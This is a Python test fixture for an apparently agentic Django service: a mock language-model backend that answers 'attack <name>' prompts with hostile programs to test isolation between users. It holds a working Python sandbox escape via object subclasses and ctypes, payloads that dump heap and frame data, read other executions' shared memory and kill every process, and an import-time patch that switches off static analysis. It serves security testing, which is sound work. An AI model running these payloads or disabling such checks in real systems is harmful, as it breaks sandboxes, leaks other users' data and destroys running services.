"""A scripted model returning hostile programs, for the cross-user tests over HTTP.

A question containing ``attack <name>`` gets program ``<name>`` of :data:`PROGRAMS`;
anything else gets the demo model's answer. Every hostile program starts from an
escape to the real ``os``, ``sys``, ``gc`` and ``ctypes``: the service is tested as if
static analysis had a hole (the design rule of docs/security.md), so loading this
module also turns static analysis off in the serving process. Test use only.
"""

from __future__ import annotations

import re
from typing import Any

from agentic_django.harness.static_analysis import StaticAnalysisResult
from agentic_django.llm import FunctionBackend, LLMPrompt
from agentic_django.services import codegen
from example_project.shop import demo_llm

ESCAPE = """
def _cls(name):
    for c in ().__class__.__base__.__subclasses__():
        if c.__name__ == name:
            return c
IMPORT = _cls('_wrap_close').__init__.__globals__['__builtins__']['__import__']
os = IMPORT('os')
sys = IMPORT('sys')
gc = IMPORT('gc')
ctypes = IMPORT('ctypes')
libc = ctypes.CDLL(None, use_errno=True)
"""

PROGRAMS: dict[str, str] = {
    # Every string in the heap, every frame's locals and globals, up the whole chain.
    "heap": ESCAPE
    + """
seen = []
for obj in gc.get_objects():
    try:
        seen.append(repr(obj)[:2000])
    except Exception:
        pass
frame = sys._getframe()
while frame is not None:
    seen.append(repr(frame.f_locals)[:20000])
    seen.append(repr(frame.f_globals)[:20000])
    frame = frame.f_back
result = seen
""",
    # Whatever another execution left in SysV shared memory or a message queue.
    "ipc": ESCAPE
    + """
found = []
for key in range(0x5EC000, 0x5EC010):
    segment = libc.shmget(key, 0, 0)
    if segment >= 0:
        libc.shmat.restype = ctypes.c_void_p
        found.append(ctypes.string_at(libc.shmat(segment, None, 0), 4096))
result = [repr(item) for item in found]
""",
    # Leave a victim's-eye copy of our own data in shared memory, then kill everyone.
    "plant": ESCAPE
    + """
IPC_CREAT = 0o1000
segment = libc.shmget(0x5EC001, 1 << 20, IPC_CREAT | 0o666)
libc.kill(-1, 9)
result = {"segment": segment}
""",
}

_ATTACK = re.compile(r"\battack (\w+)")


def reply(prompt: LLMPrompt) -> Any:
    if prompt.response_schema_name == "generated_code":
        match = _ATTACK.search(demo_llm._user_text(prompt))
        if match and match.group(1) in PROGRAMS:
            return {"code": PROGRAMS[match.group(1)], "reasoning": "", "confidence": 0.9}
    return demo_llm.reply(prompt)


def _no_static_analysis(code: str, allowed_modules: Any = ()) -> StaticAnalysisResult:
    return StaticAnalysisResult(ok=True)


codegen.analyze = _no_static_analysis


class HostileBackend(FunctionBackend):
    """:class:`FunctionBackend` answering with :func:`reply`."""

    def __init__(self, *, model: str = "mock") -> None:
        super().__init__(reply, model=model)
